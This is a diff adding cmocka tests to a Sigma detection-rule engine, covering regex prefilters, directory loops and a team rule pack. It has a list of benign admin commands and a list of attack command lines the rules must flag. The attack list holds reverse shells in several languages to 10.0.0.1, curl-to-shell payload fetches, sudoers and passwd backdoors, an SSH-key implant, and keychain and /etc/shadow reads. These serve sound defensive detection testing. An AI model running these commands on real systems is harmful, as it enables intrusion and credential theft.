@@ -356,6 +356,67 @@ static void test_numeric_fieldref_cased(void **state) {
     sigma_rules_free(rs);
 }
 
+
+/* The literal prefilter in front of each regex must never reject a value
+ * the regex matches: quantifiers, groups, classes, case flags and
+ * alternations each checked against a value that matches only if the
+ * prefilter read them right. */
+static void test_re_prefilter(void **state) {
+    (void)state;
+    struct { const char *re, *value; int want; } cases[] = {
+        {"abb+c", "xxabbbbcxx", 1},          /* '+' ends the run after one b */
+        {"colou?rful", "colorful", 1},       /* optional u */
+        {"colou?rful", "colourful", 1},
+        {"ab{2}cd", "abbcd", 1},
+        {"ab{0,3}cde", "acde", 1},
+        {"xa(b|c)dyz", "xacdyz", 1},         /* group skipped */
+        {"x[ab]cdef", "xbcdef", 1},
+        {"(?i)ABCdef", "abcDEF", 1},         /* case flag */
+        {"ABCdef", "abcdef", 0},             /* case-sensitive: regex says no */
+        {"foo|barbaz", "barbaz", 1},         /* alternation: no prefilter */
+        {"\\.exe\\s+-run", "a.exe  -run", 1},
+        {"[)(]abc\\)def", "(abc)def", 1},  /* classes with parentheses */
+        {"(?:x(?:y|z))+qrs", "xzxyqrs", 1},
+        {"abc*def", "abdef", 1},             /* c optional */
+        {"ab.*cdef", "ab---cdef", 1},
+        {"ab.*cdef", "ab---cdxf", 0},
+        {"(?x) a b c d", "abcd", 1},         /* extended mode: no prefilter */
+    };
+    for (size_t i = 0; i < NJ_ARRAY_LEN(cases); i++) {
+        char det[512];
+        snprintf(det, sizeof det, "  sel:\n    CommandLine|re: '%s'\n  condition: sel\n", cases[i].re);
+        sigma_rules *rs = load_det(det);
+        char pair[256];
+        snprintf(pair, sizeof pair, "CommandLine=%s", cases[i].value);
+        int got = hits_of(rs, NULL, (const char *const[]){pair}, 1);
+        if (got != cases[i].want) fail_msg("re '%s' on '%s': got %d", cases[i].re, cases[i].value, got);
+        sigma_rules_free(rs);
+    }
+}
+
+/* A rule's necessary-item prefilter must agree with the full evaluation. */
+static void test_rule_prefilter(void **state) {
+    (void)state;
+    sigma_rules *rs = load_det(
+        "  sel_img:\n    Image|endswith:\n      - /curl\n      - /wget\n"
+        "  sel_cli:\n    CommandLine|contains|all:\n      - ' -o '\n      - '/tmp/'\n"
+        "  filter:\n    CommandLine|contains: localhost\n"
+        "  condition: all of sel_* and not filter\n");
+    assert_int_equal(HITS(rs, "Image=/usr/bin/curl", "CommandLine=curl http://x -o /tmp/y"), 1);
+    assert_int_equal(HITS(rs, "Image=/usr/bin/wget", "CommandLine=wget http://example -o /tmp/yyyyyyyyyyyyy"), 1);
+    assert_int_equal(HITS(rs, "Image=/usr/bin/curl", "CommandLine=curl http://localhost -o /tmp/y"), 0);
+    assert_int_equal(HITS(rs, "Image=/usr/bin/cur", "CommandLine=curl http://x -o /tmp/y"), 0);
+    assert_int_equal(HITS(rs, "Image=/usr/bin/curl", "CommandLine=curl http://xxxxxxxxxxxxx -o /var/y"), 0);
+    assert_int_equal(HITS(rs, "CommandLine=curl http://x -o /tmp/y"), 0);
+    sigma_rules_free(rs);
+    /* OR at the top: no prefilter may be taken from one side. */
+    rs = load_det("  a:\n    Image|endswith: /nc\n  b:\n    CommandLine|contains: 'something long enough here'\n"
+                  "  condition: a or b\n");
+    assert_int_equal(HITS(rs, "Image=/bin/bash", "CommandLine=x something long enough here x"), 1);
+    assert_int_equal(HITS(rs, "Image=/bin/nc", "CommandLine=x"), 1);
+    sigma_rules_free(rs);
+}
+
 /* ---- conditions ------------------------------------------------------------ */
 
 static void test_conditions(void **state) {
@@ -555,6 +616,15 @@ static void test_dir_load(void **state) {
     assert_int_equal(sigma_skip_count(rs), 1);
     assert_non_null(strstr(sigma_skip_at(rs, 0)->file, "b_bad.yml"));
     assert_non_null(strstr(sigma_skip_at(rs, 0)->reason, "YAML error at line 4"));
+    /* A link back to a parent is a skip, not a second copy of every rule. */
+    snprintf(p, sizeof p, "%s/sub/loop", dir);
+    assert_int_equal(symlink("..", p), 0);
+    sigma_rules *rs2 = sigma_rules_new(&err);
+    assert_int_equal(sigma_load_path(rs2, dir), 2);
+    assert_int_equal(sigma_skip_count(rs2), 2);
+    assert_non_null(strstr(sigma_skip_at(rs2, 1)->reason, "directory loop"));
+    sigma_rules_free(rs2);
+    unlink(p);
     /* The same file named alone is an error with the sentence. */
     snprintf(p, sizeof p, "%s/b_bad.yml", dir);
     assert_int_equal(sigma_load_path(rs, p), NJ_EFORMAT);
@@ -640,6 +710,154 @@ static void test_canonical_event(void **state) {
     assert_null(v.service);
     assert_int_equal(sigma_match(rs, &v, h, 4), 0);     /* pc needs Image etc. */
     json_decref(ev);
+    sigma_rules_free(rs);
+}
+
+
+/* ---- the team rule pack (rules/nightjar) --------------------------------- */
+
+/* Match a bare command line as `nightjar analyze` sees one (no OS known,
+ * Image = argv[0]); returns the number of hits and the first title. */
+static int pack_hits(sigma_rules *rs, const char *cmd, const char **title, int *level) {
+    char argv0[256];
+    size_t n = strcspn(cmd, " \t\n");
+    snprintf(argv0, sizeof argv0, "%.*s", (int)(n < 255 ? n : 255), cmd);
+    kv e = {{"CommandLine", "Image"}, {cmd, argv0}, 2};
+    sigma_event_view v = {kv_get, &e, cmd, strlen(cmd), NULL, "process_creation", NULL};
+    sigma_hit h[8];
+    int k = sigma_match(rs, &v, h, 8);
+    if (k > 0) { *title = h[0].title; *level = h[0].level; }
+    return k;
+}
+
+/* Everyday administration and development lines, many of them close to an
+ * attack pattern (a shell path as argument, sockets, base64, firewall and
+ * keychain tools): no rule of the pack may fire on any. */
+static void test_pack_benign(void **state) {
+    (void)state;
+    static const char *benign[] = {
+        "ls -l /bin/bash", "file /bin/sh", "readlink -f /bin/sh", "ldd /bin/bash",
+        "sha256sum /bin/bash /bin/sh", "chmod 755 /usr/local/bin/tool", "sudo /bin/bash",
+        "docker exec -it web /bin/sh", "kubectl exec -it api-7d9 -- /bin/bash",
+        "docker run --rm -it --entrypoint /bin/sh alpine:3.19", "useradd -m -s /bin/bash alice",
+        "chsh -s /bin/zsh", "usermod --shell /bin/bash bob", "ln -sf /bin/bash /bin/sh",
+        "sh -c 'echo hi' 2>&1", "bash -c \"make -j2 2>&1 | tee build.log\"",
+        "find . -name '*.sh' -exec chmod +x {} \\;", "find . -type f -exec /bin/sh -c 'echo \"$1\"' _ {} \\;",
+        "sudo chroot /mnt/sysroot /bin/bash", "nice -n 10 make -j2", "timeout 5 curl -s http://localhost:8080/health",
+        "time /bin/bash ./bench.sh", "env -i HOME=/tmp bash --noprofile --norc",
+        "curl -fsSL https://example.com/pkg.tar.gz -o pkg.tar.gz", "wget -O- https://example.com/key.gpg | gpg --dearmor -o key.gpg",
+        "ssh -o ProxyCommand='ssh -W %h:%p bastion' db1", "ssh -o StrictHostKeyChecking=no deploy@build",
+        "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -C me", "ssh-copy-id -i ~/.ssh/id_ed25519.pub user@host",
+        "cat ~/.ssh/id_ed25519.pub", "systemctl enable --now nginx", "systemctl restart sshd", "crontab -l",
+        "launchctl list", "iptables -L -n -v", "iptables -A INPUT -p tcp --dport 22 -j ACCEPT", "ufw allow 22/tcp",
+        "chattr +i /etc/resolv.conf", "lsattr /etc/passwd", "getent passwd alice", "grep alice /etc/passwd",
+        "sudo visudo", "sudo -l", "echo \"alias ll='ls -la'\" >> ~/.bashrc", "export PATH=$PATH:/opt/bin",
+        "python3 -m http.server 8000", "python3 -c 'import socket; print(socket.gethostname())'",
+        "python3 -c \"import subprocess; subprocess.run(['ls', '-l'])\"", "perl -pi -e 's/foo/bar/g' config.ini",
+        "node -e \"console.log(require('os').hostname())\"", "nc -zv db1 5432", "nc -l 8080", "ncat --ssl example.com 443",
+        "socat TCP-LISTEN:8080,fork TCP:localhost:80", "openssl s_client -connect example.com:443 -servername example.com",
+        "base64 -d secret.b64 > secret.bin", "echo aGVsbG8= | base64 -d", "xattr -l ~/Downloads/report.pdf",
+        "xattr -d com.apple.quarantine /Applications/Tool.app", "spctl --status", "csrutil status",
+        "tccutil reset Camera com.example.meet", "dscl . -read /Users/alice", "dscl . -list /Users",
+        "security find-certificate -a -p", "osascript -e 'display notification \"build done\"'",
+        "osascript -e 'tell application \"Finder\" to activate'", "modprobe nvidia", "dmesg | tail -20",
+        "history | grep ssh", "rm -rf node_modules", "truncate -s 0 app.log", "journalctl --vacuum-time=2d",
+        "docker run -v $(pwd):/src -w /src gcc:13 make", "LD_LIBRARY_PATH=/opt/lib ./app", "env FOO=bar make test",
+        "nohup ./server.sh > server.log 2>&1 &", "xargs -n1 echo < list.txt", "strace -f -o trace.log ./app",
+        "git clone https://github.com/example/project.git", "tar czf backup.tgz /home/alice/docs",
+        "scp report.pdf alice@fileserver:/srv/share/", "rsync -av --delete src/ backup/",
+        "podman import -c CMD=/bin/bash rootfs.tar image:tag", "echo 1 > /proc/sys/net/ipv4/ip_forward",
+        "sysctl -w kernel.core_pattern='|/usr/lib/systemd/systemd-coredump %P %u %g %s %t %c %h'",
+        "install -m 0755 build/tool /usr/local/bin/tool", "chmod 4755 /usr/local/bin/helper",
+    };
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    assert_non_null(rs);
+    int n = sigma_load_path(rs, "rules/nightjar");
+    if (n <= 0) fail_msg("rules/nightjar did not load (%d): run the tests from the repository root", n);
+    assert_int_equal(sigma_skip_count(rs), 0);
+    int bad = 0;
+    for (size_t i = 0; i < NJ_ARRAY_LEN(benign); i++) {
+        const char *t = NULL;
+        int lvl = 0;
+        if (pack_hits(rs, benign[i], &t, &lvl)) {
+            fprintf(stderr, "benign line hit [%s]: %s\n", t, benign[i]);
+            bad++;
+        }
+    }
+    assert_int_equal(bad, 0);
+    sigma_rules_free(rs);
+}
+
+/* Textbook attack lines (public cheat-sheet forms): each must be hit, at
+ * the level given or above. */
+static void test_pack_attacks(void **state) {
+    (void)state;
+    static const struct { const char *cmd; int level; } attacks[] = {
+        {"bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", SIGMA_CRITICAL},
+        {"nc -e /bin/sh 10.0.0.1 4242", SIGMA_CRITICAL},
+        {"ncat 10.0.0.1 4242 --sh-exec '/bin/bash'", SIGMA_CRITICAL},
+        {"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f", SIGMA_CRITICAL},
+        {"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4242));"
+         "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'", SIGMA_CRITICAL},
+        {"perl -e 'use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+         "connect(S,sockaddr_in(4242,inet_aton($i)));exec(\"/bin/sh -i\");'", SIGMA_CRITICAL},
+        {"php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", SIGMA_CRITICAL},
+        {"ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'", SIGMA_CRITICAL},
+        {"socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242", SIGMA_CRITICAL},
+        {"awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { printf \"> \" |& s; s |& getline c; "
+         "if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } }' /dev/null", SIGMA_CRITICAL},
+        {"telnet 10.0.0.1 4242 | /bin/bash | telnet 10.0.0.1 4243", SIGMA_CRITICAL},
+        {"curl -s http://198.51.100.2/x.sh | bash", SIGMA_HIGH},
+        {"wget -q http://198.51.100.2/y -O /tmp/y && chmod +x /tmp/y && /tmp/y", SIGMA_HIGH},
+        {"echo ZWNobyBoaQ== | base64 -d | sh", SIGMA_CRITICAL},
+        {"unset HISTFILE", SIGMA_HIGH},
+        {"echo 'bob ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", SIGMA_HIGH},
+        {"chmod u+s /bin/bash", SIGMA_CRITICAL},
+        {"(crontab -l; echo '* * * * * curl -s http://198.51.100.2/p | sh') | crontab -", SIGMA_HIGH},
+        {"launchctl load -w /tmp/.cache/com.apple.update.plist", SIGMA_HIGH},
+        {"launchctl load ~/Library/LaunchAgents/com.example.helper.plist", SIGMA_MEDIUM},
+        {"osascript -e 'do shell script \"id\" with administrator privileges'", SIGMA_HIGH},
+        {"security dump-keychain -d login.keychain", SIGMA_HIGH},
+        {"security find-generic-password -s 'Chrome Safe Storage' -w", SIGMA_MEDIUM},
+        {"dscl . -create /Users/svc IsHidden 1", SIGMA_HIGH},
+        {"csrutil disable", SIGMA_HIGH},
+        {"spctl --master-disable", SIGMA_HIGH},
+        {"xattr -d com.apple.quarantine ~/Downloads/Installer.app", SIGMA_MEDIUM},
+        {"tccutil reset All", SIGMA_MEDIUM},
+        {"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA attacker' >> /root/.ssh/authorized_keys", SIGMA_HIGH},
+        {"cat /etc/shadow", SIGMA_HIGH},
+        {"LD_PRELOAD=/tmp/libhook.so /usr/bin/passwd", SIGMA_HIGH},
+        {"iptables -F", SIGMA_MEDIUM},
+        {"chattr -i /etc/passwd", SIGMA_HIGH},
+        {"insmod /tmp/.x/rk.ko", SIGMA_CRITICAL},
+        {"find . -exec /bin/sh \\; -quit", SIGMA_MEDIUM},
+        {"vim -c ':!/bin/sh'", SIGMA_HIGH},
+        {"echo '[Service]' > /etc/systemd/system/updater.service", SIGMA_MEDIUM},
+        {"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", SIGMA_HIGH},
+        {"sudo -u#-1 /bin/bash", SIGMA_CRITICAL},
+        {"echo 'toor:x:0:0:root:/root:/bin/bash' >> /etc/passwd", SIGMA_CRITICAL},
+    };
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    assert_true(sigma_load_path(rs, "rules/nightjar") > 0);
+    int bad = 0;
+    for (size_t i = 0; i < NJ_ARRAY_LEN(attacks); i++) {
+        char argv0[64];
+        snprintf(argv0, sizeof argv0, "%.*s", (int)strcspn(attacks[i].cmd, " "), attacks[i].cmd);
+        kv e = {{"CommandLine", "Image"}, {attacks[i].cmd, argv0}, 2};
+        sigma_event_view v = {kv_get, &e, attacks[i].cmd, strlen(attacks[i].cmd), NULL, "process_creation", NULL};
+        sigma_hit h[16];
+        int k = sigma_match(rs, &v, h, 16);
+        int best = -1;
+        for (int j = 0; j < k && j < 16; j++) if (h[j].level > best) best = h[j].level;
+        if (best < attacks[i].level) {
+            fprintf(stderr, "attack line %s (best level %d, want %d): %s\n", k ? "under-rated" : "missed",
+                    best, attacks[i].level, attacks[i].cmd);
+            bad++;
+        }
+    }
+    assert_int_equal(bad, 0);
     sigma_rules_free(rs);
 }
 
@@ -755,12 +973,16 @@ int main(void) {
         cmocka_unit_test(test_windash),
         cmocka_unit_test(test_base64),
         cmocka_unit_test(test_numeric_fieldref_cased),
+        cmocka_unit_test(test_re_prefilter),
+        cmocka_unit_test(test_rule_prefilter),
         cmocka_unit_test(test_conditions),
         cmocka_unit_test(test_keywords),
         cmocka_unit_test(test_logsource),
         cmocka_unit_test(test_skip_reasons),
         cmocka_unit_test(test_dir_load),
         cmocka_unit_test(test_canonical_event),
+        cmocka_unit_test(test_pack_benign),
+        cmocka_unit_test(test_pack_attacks),
         cmocka_unit_test(test_load_oom),
         cmocka_unit_test(test_dir_oom),
         cmocka_unit_test(test_alias_bomb),
